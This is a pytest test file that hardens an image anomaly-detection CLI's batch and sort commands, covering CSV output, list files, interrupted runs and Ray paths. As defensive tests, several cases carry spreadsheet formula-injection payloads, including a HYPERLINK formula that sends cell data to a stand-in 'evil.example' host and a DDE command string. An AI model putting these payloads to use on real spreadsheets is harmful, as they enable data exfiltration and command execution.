"""Hardening p44: an adversarial sweep of ``insightad batch``, ``insightad sort`` and their Ray paths, and the
CSV/Parquet files they write.

Covered: every CSV the tool writes (batch --csv, sort's results.csv, evaluate's per_defect.csv) guards cells a
spreadsheet would run as a formula through one helper (``io.csv_cell``) and reads back identically (commas, quotes,
newlines, a leading '); list files of paths (a UTF-8 byte-order mark, a file whose name starts with #, relative lines
of a list given as a URL); temporaries a killed run left beside --out and in its parts folder; SIGTERM stopping
batch and sort as Ctrl-C does.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import subprocess
import sys
import textwrap
from pathlib import Path

import pyarrow.parquet as pq
import pytest

from insightad.cli import main
from insightad.io import FORMULA_START, csv_cell, csv_value

ODD_NAMES = ["+a.png", "a,b.png", 'q"uote.png', "new\nline.png", "'quoted.png", "-b.png", "@c.png", "tab\tin.png"]


def _formula_free(rows: list[list[str]]) -> None:
    """No cell of a CSV starts like a spreadsheet formula, unless it is a plain number."""
    for row in rows:
        for cell in row:
            if cell[:1] in FORMULA_START:
                float(cell)  # a number such as -1.5 is left as it is; anything else must have been guarded


@pytest.fixture
def odd_folder(mvtec_dir, tmp_path) -> Path:
    root = tmp_path / "odd"
    root.mkdir()
    for name in ODD_NAMES:
        shutil.copy(mvtec_dir / "test" / "good" / "000.png", root / name)
    return root


# ----------------------------------------------------------------------------- CSV cells
def test_p44_csv_cell_round_trips_and_guards():
    for text in ["=1+2", "+x", "-cmd|' /C calc'!A0", "@SUM(A1)", "\tx", "\rx", "'=x", "'x", "''", "x", "", "-1.5",
                 "+3e-4", "-inf", "nan", "/data/=x.png"]:
        cell = csv_cell(text)
        assert csv_value(cell) == text
        assert cell[:1] not in FORMULA_START or text in ("-1.5", "+3e-4", "-inf")


def test_p44_batch_csv_guards_formulas_and_reads_back(baseline_model, odd_folder, tmp_path, capsys):
    """A list line a spreadsheet would run (``=HYPERLINK(...)``) landed as a formula in both the path and error
    cells of --csv; names with commas, quotes, newlines and a leading ' read back as the Parquet table holds them."""
    listing = tmp_path / "list.txt"
    listing.write_text('=HYPERLINK("http://evil.example/?"&A1,"click")\n@SUM(1+1)\nodd/+a.png\n')
    for src, name in ((listing, "l"), (odd_folder, "f")):
        out, table = tmp_path / f"{name}.parquet", tmp_path / f"{name}.csv"
        main(["batch", "--model", str(baseline_model), "--input", str(src), "--out", str(out), "--csv", str(table)])
        with open(table, newline="", encoding="utf-8") as f:
            rows = list(csv.reader(f))
        _formula_free(rows[1:])
        want = pq.read_table(out).drop_columns(["path_bytes"]).to_pylist()
        header = rows[0]
        for row, expected in zip(rows[1:], want):
            for key in ("path", "error", "model_sha256"):
                cell = row[header.index(key)]
                assert (csv_value(cell) if cell else None) == expected[key]
        assert len(rows) - 1 == len(want)
    capsys.readouterr()


def test_p44_sort_csv_guards_and_resumes_with_odd_names(baseline_model, odd_folder, tmp_path, capsys):
    """sort's results.csv: every text cell through the one guard, read back (resume) without it, odd names intact."""
    from insightad.apps.sort import CSV_NAME, FolderSorter
    from insightad.model_file import load_model

    out = tmp_path / "sorted"
    assert main(["sort", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out)]) == 0
    with open(out / CSV_NAME, newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    assert sorted(Path(csv_value(r["path"])).name for r in rows) == sorted(ODD_NAMES)
    sorter = FolderSorter(load_model(baseline_model), odd_folder, out)
    assert sorter.run().skipped == len(ODD_NAMES)  # read back identically: nothing sorted twice
    text = sorter._csv_text([sorter._row(Path("=cmd.png"), 1.0, -0.5, "error", error="=1+2: cannot read")])
    assert next(csv.reader([text]))[:3] == ["'=cmd.png", "1", "-0.5"]
    assert "'=1+2: cannot read" in text
    capsys.readouterr()


def test_p44_per_defect_csv_guards_defect_names():
    """A defect folder named like a formula (``=cmd``) landed as one in evaluate's per_defect.csv."""
    from insightad.evaluate.report import per_defect_csv

    text = per_defect_csv([{"defect": "=cmd|' /C calc'!A0", "count": 2, "mean": -1.5, "detection_rate": 0.5}])
    rows = list(csv.reader(text.splitlines()))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "2", "-1.5", "0.5"]


# ----------------------------------------------------------------------------- list files
@pytest.fixture
def listed(tmp_path) -> Path:
    """A folder of (empty) image files, among them one whose name starts with #."""
    root = tmp_path / "imgs"
    root.mkdir()
    for name in ("a.png", "#1.png", "b.png"):
        (root / name).write_bytes(b"")
    return root


def test_p44_list_file_with_a_byte_order_mark(listed, tmp_path):
    """A list saved by a Windows editor (UTF-8 with BOM, CRLF): its first image became a 'file not found' error row
    named with an invisible character."""
    from insightad.apps.batch import list_source

    f = tmp_path / "list.txt"
    f.write_bytes(b"\xef\xbb\xbfimgs/a.png\r\nimgs/b.png\r\n")
    assert list_source(str(f)).paths == [os.fsencode(listed / "a.png"), os.fsencode(listed / "b.png")]


def test_p44_list_line_naming_a_file_that_starts_with_hash(listed, tmp_path):
    """``#1.png`` (an existing image) was dropped as a comment: no row for it, and a list of only such names was
    called empty. A comment stays a comment."""
    from insightad.apps.batch import list_source

    f = tmp_path / "list.txt"
    f.write_text("# images of line 2\nimgs/a.png\n#imgs/b.png\n\n  \nimgs/#1.png\n")
    assert list_source(str(f)).paths == [os.fsencode(listed / "a.png"), os.fsencode(listed / "#1.png")]
    (listed / "#2.png").write_bytes(b"")
    (listed / "only.txt").write_text("#2.png\n")
    assert list_source(str(listed / "only.txt")).paths == [os.fsencode(listed / "#2.png")]


def test_p44_url_list_relative_lines_are_from_the_lists_folder(listed, tmp_path, monkeypatch):
    """A list read through a URL (``file://``) took its relative lines from the working directory (of the driver,
    and of every Ray actor), not from the list's folder as a local list does."""
    from insightad.apps.batch import list_source

    (tmp_path / "list.txt").write_text("imgs/a.png\n#1.png\n")
    monkeypatch.chdir(listed)  # here #1.png exists, beside the list it does not: a comment
    paths = list_source(f"file://{tmp_path / 'list.txt'}").paths
    assert paths == [os.fsencode(f"file://{listed / 'a.png'}")]


# ----------------------------------------------------------------------------- interrupted runs
def test_p44_batch_removes_temporaries_a_killed_run_left(baseline_model, odd_folder, tmp_path, capsys):
    """A run killed while writing a part (or the merged table) left its temporary behind for good: part names are
    never reused, so nothing removed it, and it kept ``OUT.parts/`` from being removed after the merge."""
    out = tmp_path / "r.parquet"
    parts = tmp_path / "r.parquet.parts"
    parts.mkdir()
    left = [parts / ".part-00000000000000000001-123-000001.parquet.abc123.insightad-tmp",
            tmp_path / ".r.parquet.def456.insightad-tmp"]
    for p in left:
        p.write_bytes(b"PAR1 half written")
    keep = tmp_path / ".other.parquet.xyz.insightad-tmp"  # another output's temporary: not ours to remove
    keep.write_bytes(b"")
    assert main(["batch", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out)]) == 0
    assert not any(p.exists() for p in left) and not parts.exists() and keep.exists()
    assert pq.read_table(out).num_rows == len(ODD_NAMES)
    capsys.readouterr()


def _run_with_sigterm(patch: str, argv: list[str]) -> subprocess.CompletedProcess:
    """Run the CLI in a child that sends itself SIGTERM where ``patch`` says (as a service manager or a cluster
    scheduler stopping it)."""
    script = "import os, signal, sys\n" + textwrap.dedent(patch) + \
        f"from insightad.cli import main\nsys.exit(main({argv!r}))\n"
    return subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300,
                          env={**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src")})


def test_p44_sigterm_stops_batch_and_sort_as_ctrl_c_does(baseline_model, odd_folder, tmp_path, capsys):
    """SIGTERM killed batch and sort on the spot (status -15, no word on how to finish, a temporary cut short
    wherever it came); like Ctrl-C (and like train), it now unwinds, says to run the same command again, exits
    130, and the run started again finishes with one row per image."""
    out = tmp_path / "r.parquet"
    argv = ["batch", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out), "--chunk", "2"]
    proc = _run_with_sigterm("""
        import insightad.apps.batch as b
        scored, calls = b.score_chunk, []
        def score_chunk(det, paths, opts):
            calls.append(paths)
            if len(calls) == 2:
                os.kill(os.getpid(), signal.SIGTERM)
            return scored(det, paths, opts)
        b.score_chunk = score_chunk
    """, argv)
    assert proc.returncode == 130, proc.stderr[-2000:]
    assert "run the same command again to finish" in proc.stderr
    assert len(list((tmp_path / "r.parquet.parts").glob("part-*.parquet"))) == 1
    assert main(argv) == 0 and pq.read_table(out).num_rows == len(ODD_NAMES)

    sorted_ = tmp_path / "sorted"
    argv = ["sort", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(sorted_),
            "--batch-size", "2"]
    proc = _run_with_sigterm("""
        from insightad.apps.sort import FolderSorter
        stages = []
        def stage(self, name, what):
            stages.append(name)
            if stages.count("intents") == 2:
                os.kill(os.getpid(), signal.SIGTERM)
        FolderSorter._stage = stage
    """, argv)
    assert proc.returncode == 130, proc.stderr[-2000:]
    assert "run the same command again to finish" in proc.stderr
    assert main(argv) == 0
    assert sorted(p.name for p in sorted_.rglob("*.png")) == sorted(ODD_NAMES)
    capsys.readouterr()


# ----------------------------------------------------------------------------- sort's own files
@pytest.mark.parametrize("name,content", [
    ("results.csv", b"id,comment\n1,my notes"),  # a file of the user's (its last line without a newline)
    ("results.csv", b'"path","score","error"\n"/x.png",1.5,\n'),  # batch --csv named results.csv
    (".insightad-sort.journal", b"garbage\n"),
    (".insightad-sort.journal", b'{"kind": "header", "input": "%s", "mode": "copy", "threshold": %t}\nnot json\n'),
])
def test_p44_sort_refuses_files_it_did_not_write(baseline_model, odd_folder, tmp_path, capsys, name, content):
    """An --out folder holding a results.csv or journal sort did not write (or a damaged journal line) was a
    KeyError or JSONDecodeError traceback, after the user's CSV had its last line cut and a journal was added."""
    out = tmp_path / "out"
    out.mkdir()
    from insightad.model_file import load_model

    threshold = repr(float(load_model(baseline_model).threshold_)).encode()
    content = content.replace(b"%s", str(odd_folder).encode()).replace(b"%t", threshold)
    (out / name).write_bytes(content)
    assert main(["sort", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out)]) == 1
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and str(out / name) in err[0] and "use a new --out" in err[0], err
    assert (out / name).read_bytes() == content
    assert not (out / "normal").exists() and not (out / "anomalous").exists()
    if name == "results.csv":
        assert not (out / ".insightad-sort.journal").exists()
    if b"not json" not in content:  # refused before the lock is taken: nothing added to the user's folder
        assert sorted(p.name for p in out.iterdir()) == [name]


def test_p44_sort_resumes_a_results_csv_saved_with_a_byte_order_mark(baseline_model, odd_folder, tmp_path, capsys):
    """results.csv saved again by a spreadsheet (UTF-8 with a byte-order mark): the next run was a KeyError."""
    out = tmp_path / "out"
    argv = ["sort", "--model", str(baseline_model), "--input", str(odd_folder), "--out", str(out), "--json"]
    assert main(argv) == 0
    (out / "results.csv").write_bytes(b"\xef\xbb\xbf" + (out / "results.csv").read_bytes())
    capsys.readouterr()
    assert main(argv) == 0
    assert json.loads(capsys.readouterr().out)["skipped"] == len(ODD_NAMES)


# ----------------------------------------------------------------------------- paths
def test_p44_tilde_in_output_paths_is_the_home_folder(baseline_model, odd_folder, tmp_path, monkeypatch, capsys):
    """``--out=~/r.parquet`` (or ``out = "~/r.parquet"`` in a --config file: no shell expands it) was a
    FileNotFoundError traceback: parts went to a folder named ``~`` here while pyarrow read them from the home
    folder; --overlays=~/ov wrote into ./~/ov (the checks had made an empty ~/ov); sort --input ~/x: 'no such folder'."""
    home = tmp_path / "home"
    home.mkdir()
    shutil.copytree(odd_folder, home / "odd")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.chdir(tmp_path)
    (tmp_path / "cfg.toml").write_text('out = "~/r.parquet"\ncsv = "~/r.csv"\n')
    assert main(["batch", "--config", "cfg.toml", "--model", str(baseline_model), "--input", "~/odd",
                 "--overlays", "~/ov"]) == 0
    assert pq.read_table(home / "r.parquet").num_rows == len(ODD_NAMES) and (home / "r.csv").is_file()
    assert len(list((home / "ov").glob("*.overlay.png"))) == len(ODD_NAMES)
    assert main(["sort", "--model", str(baseline_model), "--input", "~/odd", "--out", "~/sorted"]) == 0
    assert (home / "sorted" / "results.csv").is_file()
    assert not (tmp_path / "~").exists()
    capsys.readouterr()


# ----------------------------------------------------------------------------- Ray
class _Cluster:
    """Stands in for the ``ray`` module: only what ``check_gpus`` asks of it."""

    def __init__(self, **resources: float) -> None:
        self.resources = resources

    def cluster_resources(self) -> dict[str, float]:
        return dict(self.resources)


def test_p44_ray_gpus_per_worker_beyond_the_cluster_is_refused_not_waited_for():
    """``batch --ray local --gpus-per-worker 1`` on a machine without a GPU waited forever (Ray's autoscaler logging
    'No available node types can fulfill resource request {GPU: 1.0}' every 30 s, the run never ending)."""
    pytest.importorskip("pyarrow")
    from insightad.apps.batch_ray import check_gpus
    from insightad.errors import InsightADError

    with pytest.raises(InsightADError, match=r"--gpus-per-worker 1: the Ray cluster \(local\) has 0 GPUs"):
        check_gpus(_Cluster(CPU=2.0), 1.0, "local")
    with pytest.warns(UserWarning, match="until the cluster grows"):
        check_gpus(_Cluster(CPU=2.0), 1.0, "auto")  # an autoscaler may add a GPU node: said, not refused
    check_gpus(_Cluster(CPU=2.0, GPU=1.0), 0.5, "local")
    check_gpus(_Cluster(CPU=2.0), 0.0, "local")


# ----------------------------------------------------------------------------- two writers
def test_p44_batch_lock_holds_for_a_link_to_the_table(baseline_model, odd_folder, tmp_path, capsys):
    """Two runs given two names of one table (``--out link.parquet``, a symbolic link to ``r.parquet``) each took the
    lock beside their own name and both replaced r.parquet: the merge of one could drop the rows of the other."""
    from insightad.apps.batch import ResultsStore
    from insightad.io import file_lock

    out = tmp_path / "r.parquet"
    argv = ["batch", "--model", str(baseline_model), "--input", str(odd_folder)]
    assert main([*argv, "--out", str(out)]) == 0
    (tmp_path / "link.parquet").symlink_to(out)
    capsys.readouterr()
    with file_lock(ResultsStore(out).lock_path, str(out)):  # a run on r.parquet is under way
        assert main([*argv, "--out", str(tmp_path / "link.parquet")]) == 1
    assert "another run is writing it" in capsys.readouterr().err
    assert not (tmp_path / "link.parquet.parts").exists() and not (tmp_path / "link.parquet.lock").exists()


def test_p44_train_ray_bad_training_image_is_one_line(mvtec_dir, tmp_path, capsys):
    """``train --ray`` on a dataset with an unreadable training image printed the Ray worker's whole traceback (17
    lines, colour codes included) as the 'one line' error; without --ray it is one line naming the file."""
    ray = pytest.importorskip("ray")
    data = tmp_path / "disc"
    shutil.copytree(mvtec_dir, data)
    bad = data / "train" / "good" / "005.png"
    bad.write_bytes(b"\x89PNG\r\n\x1a\n not really")
    started_here = not ray.is_initialized()
    try:
        rc = main(["train", "--method", "baseline", "--data", str(data), "--image-size", "64", "--no-onnx",
                   "--out", str(tmp_path / "m.safetensors"), "--ray", "local", "--workers", "1"])
    finally:
        if started_here and ray.is_initialized():
            ray.shutdown()
    errors = [ln for ln in capsys.readouterr().err.splitlines() if ln.startswith("insightad: error:") or
              ln.startswith("  File ")]
    assert rc == 1 and errors == [f"insightad: error: {bad}: not a readable image (expected PNG, JPEG, BMP or TIFF)"]


def test_p44_batch_overlays_folder_given_relative_is_named_absolute(baseline_model, odd_folder, tmp_path,
                                                                     monkeypatch, capsys):
    """``--overlays ov`` (relative) went to the Ray actors as 'ov': an actor on another node (whose working folder is
    one of Ray's) wrote the overlays there, out of reach; and the table's overlay column said 'ov/x.png.overlay.png',
    a name that only works from the folder the run was started in."""
    from insightad.apps.batch import BatchJob, ResultsStore, list_source

    monkeypatch.chdir(tmp_path)
    job = BatchJob(baseline_model, list_source(str(odd_folder)), ResultsStore(tmp_path / "r.parquet"),
                   maps_dir="maps", overlays_dir="ov", model_sha256="0" * 64)
    opts = job.options(None)
    assert (opts.maps_dir, opts.overlays_dir) == (str(tmp_path / "maps"), str(tmp_path / "ov"))
    assert main(["batch", "--model", str(baseline_model), "--input", str(odd_folder), "--out", "r.parquet",
                 "--overlays", "ov"]) == 0
    names = pq.read_table(tmp_path / "r.parquet").column("overlay").to_pylist()
    assert len(names) == len(ODD_NAMES) and all(os.path.isabs(n) and os.path.isfile(n) for n in names)
    capsys.readouterr()


def test_p44_list_file_in_utf16_says_so(listed, tmp_path):
    """A list saved as 'Unicode' by a Windows editor (UTF-16) was called 'an image or a binary file'."""
    from insightad.apps.batch import list_source
    from insightad.errors import InsightADError

    f = tmp_path / "list.txt"
    f.write_text("imgs/a.png\n", encoding="utf-16")
    with pytest.raises(InsightADError, match="saved as UTF-16 text; save it as UTF-8"):
        list_source(str(f))


def test_p44_list_repeating_a_path_says_so(baseline_model, odd_folder, tmp_path, capsys):
    """A list naming one image on several lines (``a.png``, ``./a.png``, its absolute path) got one row for it and
    fewer 'inputs' than lines, without a word: the user could not tell which lines had gone."""
    f = tmp_path / "list.txt"
    f.write_text(f"odd/+a.png\nodd/./+a.png\n{odd_folder / '+a.png'}\nodd/-b.png\n")
    assert main(["batch", "--model", str(baseline_model), "--input", str(f), "--out", str(tmp_path / "r.parquet")]) == 0
    assert "2 lines name an image listed before" in capsys.readouterr().err
    assert pq.read_table(tmp_path / "r.parquet").num_rows == 2


def test_p44_folder_of_masks_only_says_what_was_passed_over(baseline_model, tmp_path, capsys):
    """A folder holding only ``*_mask.png`` files was 'no images found (expected .png, ...)', a folder full of .png
    files: batch and sort now say how many files they passed over by their names, and what to do."""
    masks = tmp_path / "masks"
    masks.mkdir()
    for name in ("000_mask.png", "001_mask.png"):
        (masks / name).write_bytes(b"")
    for argv in (["batch", "--input", str(masks), "--out", str(tmp_path / "r.parquet")],
                 ["sort", "--input", str(masks), "--out", str(tmp_path / "sorted")]):
        assert main([*argv, "--model", str(baseline_model)]) == 1
        err = capsys.readouterr().err.strip()
        assert "no images found" in err and "2 files passed over by their names, e.g. 000_mask.png" in err, err
    assert not (tmp_path / "sorted").exists() and not (tmp_path / "r.parquet").exists()


def test_p44_sort_refused_for_no_images_leaves_no_output_folder(baseline_model, tmp_path, capsys):
    """A sort refused for a folder without images left its --out folder behind holding a journal, a lock file and a
    results.csv of just a header: the refusal came after they were written."""
    empty = tmp_path / "empty"
    empty.mkdir()
    (empty / "notes.txt").write_text("no images here")
    assert main(["sort", "--model", str(baseline_model), "--input", str(empty), "--out", str(tmp_path / "s")]) == 1
    assert "no images found" in capsys.readouterr().err
    assert not (tmp_path / "s").exists()
